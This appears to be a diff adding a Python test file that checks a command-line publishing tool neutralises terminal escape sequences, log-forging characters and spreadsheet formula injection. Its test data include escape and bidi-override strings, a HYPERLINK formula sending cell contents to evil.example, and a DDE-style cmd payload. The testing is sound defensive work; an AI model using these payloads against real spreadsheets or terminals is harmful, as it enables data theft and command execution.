@@ -1,0 +1,156 @@
+"""Words that steer a terminal, forge a line of a log, or run in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from dataclasses import replace
+
+import click
+import pytest
+
+from flows import cli, settings
+from flows.admin.query import Answer
+from flows.cli.console import Console, dump, table
+from flows.publishing.documents import ARTICLE_KEYS, write_csv
+from parsers.errors import BadFrontMatter, ParseError
+from parsers.frontmatter import read_post
+from parsers.text.escape import harmless
+from tests.security.payloads import CONTROLS, SENTENCES, STEERING, page_of, payloads, read
+from tests.unit.publishing.conftest import make_article
+from warehouse.rows import Result
+
+HOSTILE_LINES = payloads(
+    "log-injection",
+    "\x1b]0;pwned\x07\x1b[2J", "\x9b2J\x9d0;x\x9c", "\u202eevil\u202c", "\u2066x\u2069\u200f", "a\rb\b\b",
+    "\u2028x\u2029y\x85z", "%s%s%n {0} {self} %(name)s", "\x7f\x00", "[bold red]x[/bold red]", "\ud800",
+)  # fmt: skip
+
+
+def test_what_is_harmless_stays_and_nothing_else() -> None:
+    usual = "标题 — “引号” 👩\u200d💻 %s {0}\tcell\nline <b> [x] \\u001b"
+
+    assert harmless(usual) == usual
+    assert harmless("a\x1b[2Jb\u202e") == "a\\u001b[2Jb\\u202e"
+    assert not set(harmless("".join(map(chr, range(0x3000))))) & STEERING
+
+
+@pytest.mark.parametrize("words", HOSTILE_LINES)
+def test_nothing_that_is_said_steers_the_terminal(words, capfd) -> None:
+    console = Console(verbosity=1)
+    console.document({}, words)
+    console.say(words)
+    console.note(words)
+    console.detail(words)
+    console.fail(words, 1)
+    console.fail_with(ParseError(words))
+    console.fail_with(settings.ConfigurationError(words))
+    console.fail_with(RuntimeError(words))
+    click.echo(table([{words: words, "n": 1}], (words, "n")))
+    out, err = capfd.readouterr()
+
+    assert not set(out + err) & STEERING
+    assert out.splitlines()[:2] == [harmless(words)] * 2
+    assert "this is a bug in copydesk: RuntimeError" in err
+    if "%s" in words:
+        assert err.count(words) >= 5  # no format was filled in
+
+
+@pytest.mark.parametrize("words", HOSTILE_LINES)
+def test_json_shows_the_same_value_in_characters_that_do_nothing(words, capfd) -> None:
+    console = Console(json=True)
+    console.document({"title": words, words: [words]}, "")
+    console.fail(words, 1)
+    out, err = capfd.readouterr()
+    reader, at = json.JSONDecoder(), out.index("\n}\n") + 3
+
+    assert not set(out + err) & STEERING
+    assert reader.decode(out[:at]) == {"title": words, words: [words]}
+    assert reader.decode(out[at:])["error"] == words
+    assert json.loads(dump([words])) == [words]
+
+
+def test_a_query_shows_hostile_values_harmlessly(stored, capfd, elsewhere) -> None:
+    config = elsewhere / "copydesk.toml"
+    config.write_text(f"[warehouse]\npath = {json.dumps(str(stored))}\n", encoding="utf-8")
+    ask = ["--config", str(config), "query", "--live", "select title, url from articles"]
+
+    assert cli.run(ask) == 0
+    shown = capfd.readouterr()
+    assert cli.run([*ask, "--json"]) == 0
+    document = capfd.readouterr().out
+
+    assert "\\u001b]0;pwned\\u0007 \\u202eevil" in shown.out
+    assert not set(shown.out + shown.err + document) & STEERING
+    assert json.loads(document)[0]["title"] == "\x1b]0;pwned\x07 \u202eevil =1+1"
+
+
+@pytest.mark.parametrize("words", HOSTILE_LINES)
+def test_what_is_typed_wrongly_is_said_harmlessly(words, capfd, elsewhere) -> None:
+    for typed in ([words], ["sync", words], ["query", f"select '{words}"], ["parse", words]):
+        assert cli.run(typed) != 0
+    out, err = capfd.readouterr()
+
+    assert not set(out + err) & STEERING
+
+
+@pytest.mark.parametrize("words", HOSTILE_LINES)
+def test_errors_about_pages_quote_them_harmlessly(words) -> None:
+    url = f"https://gazette.example/{words}"
+    pages = [page_of("", url=url), page_of("", title=words), replace(page_of(""), text=words)]
+    errors = []
+    for page in pages:
+        with pytest.raises(ParseError) as caught:
+            read(page)
+        errors.append(str(caught.value))
+    for dialect_text in (f"---\n{words}: [\n---\nx", f"---\ntitle: !{words} x\n---\nx", words):
+        with pytest.raises(BadFrontMatter) as bad:
+            read_post(dialect_text.encode("utf-8", "replace"), f"_posts/{words}.md")
+        errors.append(str(bad.value))
+
+    assert not set("".join(errors)) & STEERING
+
+
+@pytest.mark.parametrize("words", HOSTILE_LINES)
+def test_no_article_carries_what_steers_a_terminal_in_its_names(words) -> None:
+    page = page_of(f"<p class=byline>作者：{words}</p>{SENTENCES}", title=f"一个标题在这里{words}")
+    article = read(page)
+
+    assert not set(f"{article.title}{article.authors}{article.publisher}") & CONTROLS
+
+
+FORMULAS = payloads(
+    "csv-injection",
+    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("words", FORMULAS)
+def test_a_spreadsheet_runs_nothing_of_an_export(words, tmp_path) -> None:
+    file = tmp_path / "out.csv"
+    article = make_article(title=words, publisher=words, authors=(words,), text=words, url=words)
+
+    write_csv([article], file)
+
+    with file.open(encoding="utf-8-sig", newline="") as lines:
+        header, cells = csv.reader(lines)
+    row = dict(zip(header, cells, strict=True))
+    assert tuple(header) == ARTICLE_KEYS
+    assert row["title"] == row["publisher"] == row["text"] == row["url"] == f"'{words}"
+    assert json.loads(row["authors"]) == [words]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+
+
+@pytest.mark.parametrize("words", FORMULAS)
+def test_the_csv_of_a_query_is_the_exact_data(words) -> None:
+    answer = Answer(Result(columns=("title",), types=("VARCHAR",), rows=[(words,)]))
+
+    assert list(csv.reader(io.StringIO(answer.as_csv(), newline=""))) == [["title"], [words]]
+
+
+def test_the_help_says_which_csv_is_for_spreadsheets() -> None:
+    assert "spreadsheet" in (cli.query.query.help or "")
+    assert "export" in (cli.query.query.help or "")
+    assert "spreadsheets" in (write_csv.__doc__ or "")
